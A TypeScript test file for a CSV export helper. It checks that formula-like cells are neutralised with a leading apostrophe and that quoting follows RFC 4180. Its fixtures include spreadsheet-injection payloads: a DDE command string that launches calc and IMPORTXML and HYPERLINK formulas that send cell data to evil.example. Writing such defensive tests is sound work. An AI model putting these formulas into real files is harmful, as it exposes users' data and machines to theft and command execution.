import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import { neutraliseFormula, toCsv } from "~/utils/csv";

function readBack(csv: string) {
  // Strict settings: a field that is not quoted correctly fails the test.
  return parse(csv, { columns: true, relax_quotes: false, relax_column_count: false }) as Record<string, string>[];
}

const hostile = [
  '=HYPERLINK("http://evil.example","click")',
  "=1+1",
  "+1",
  "-2+3",
  "@SUM(A1)",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
  "-",
];

test("a cell that begins with = + - @ TAB or CR comes back through csv-parse as ' plus the original", () => {
  const csv = toCsv(
    ["id", "value"],
    hostile.map((value, i) => ({ id: String(i), value })),
  );
  expect(readBack(csv).map((r) => r.value)).toEqual(hostile.map((v) => `'${v}`));
});

test("quotes, commas and line breaks inside a cell round-trip exactly", () => {
  const awkward = [
    'She said "yes", then "no"',
    "one, two, three",
    "line one\nline two",
    "line one\r\nline two",
    '"',
    ",",
    "",
  ];
  const csv = toCsv(
    ["value"],
    awkward.map((value) => ({ value })),
  );
  expect(readBack(csv).map((r) => r.value)).toEqual(awkward);
});

test("hostile and awkward at once: a formula with quotes, commas and a line break stays intact but inert", () => {
  const value = '=HYPERLINK("http://evil.example","click")\n@other, "line"';
  const [row] = readBack(toCsv(["value"], [{ value }]));
  expect(row?.value).toBe(`'${value}`);
});

test("plain values are untouched, and only a leading formula sign counts", () => {
  const plain = [
    "Zoë Pembridge",
    "Sinn Féin",
    "E14009004",
    "parl.ashbourne-vale.2024-07-04",
    "a = b",
    "x+1",
    "joint-party:53-119",
    "2024-06-20T09:00:00.000Z",
    " =1",
  ];
  for (const value of plain) expect(neutraliseFormula(value)).toBe(value);
  expect(
    readBack(
      toCsv(
        ["value"],
        plain.map((value) => ({ value })),
      ),
    ).map((r) => r.value),
  ).toEqual(plain);
});

test("numbers are written as digits; null and missing cells are empty", () => {
  const csv = toCsv(["a", "b", "c"], [{ a: 5, b: null }]);
  expect(csv).toBe("a,b,c\r\n5,,\r\n");
});

test("a negative number is prefixed too, which is why the exports hold none", () => {
  expect(toCsv(["n"], [{ n: -2 }])).toBe("n\r\n'-2\r\n");
});

test("records end with CRLF and fields are quoted only when they must be (RFC 4180)", () => {
  const csv = toCsv(
    ["name", "note"],
    [
      { name: "Plain", note: 'has "quotes"' },
      { name: "Comma, here", note: "two\nlines" },
    ],
  );
  expect(csv).toBe('name,note\r\nPlain,"has ""quotes"""\r\n"Comma, here","two\nlines"\r\n');
});

test("a header alone when there are no rows", () => {
  expect(toCsv(["person_id", "person_name"], [])).toBe("person_id,person_name\r\n");
});
